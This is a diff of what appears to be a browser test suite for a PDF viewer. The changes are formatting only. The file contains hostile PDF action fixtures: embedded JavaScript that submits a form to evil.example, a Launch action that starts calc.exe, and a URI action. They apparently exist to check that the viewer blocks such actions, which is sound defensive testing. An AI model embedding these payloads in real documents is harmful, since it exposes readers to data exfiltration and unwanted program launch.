@@ -19,14 +19,17 @@ const policies = [
 ] as const
 
 const actions = {
-  JavaScript: '/S /JavaScript /JS (app.alert\\(1\\); globalThis.ran = true; this.submitForm\\("https://evil.example/"\\))',
+  JavaScript:
+    '/S /JavaScript /JS (app.alert\\(1\\); globalThis.ran = true; this.submitForm\\("https://evil.example/"\\))',
   'a launch action': '/S /Launch /F (calc.exe)',
   'an address': '/S /URI /URI (https://evil.example/)',
 }
 
 /** Gives each PDF of the server other bytes. */
 const answerWith = (page: Page, pdf: Uint8Array<ArrayBuffer>) =>
-  page.route('**/*.pdf*', (route) => route.fulfill({ contentType: 'application/pdf', body: Buffer.from(pdf) }))
+  page.route('**/*.pdf*', (route) =>
+    route.fulfill({ contentType: 'application/pdf', body: Buffer.from(pdf) }),
+  )
 
 async function openPdf(page: Page, policy: string) {
   const head = policy === withNonce ? nonceScript : loaderScript
@@ -58,7 +61,12 @@ for (const [name, policy, workers, hasWorker] of policies) {
 test('a PDF with fonts of its own is drawn under the strict policy', async ({ page }) => {
   await openPdf(page, strict)
   await expect(page.getByRole('dialog').locator('[data-page] canvas').first()).toBeVisible()
-  await expect(page.getByRole('dialog').getByText(/Statement of work/i).first()).toBeAttached()
+  await expect(
+    page
+      .getByRole('dialog')
+      .getByText(/Statement of work/i)
+      .first(),
+  ).toBeAttached()
 })
 
 test('one with a password, and a damaged one, are offered for download', async ({ page }) => {
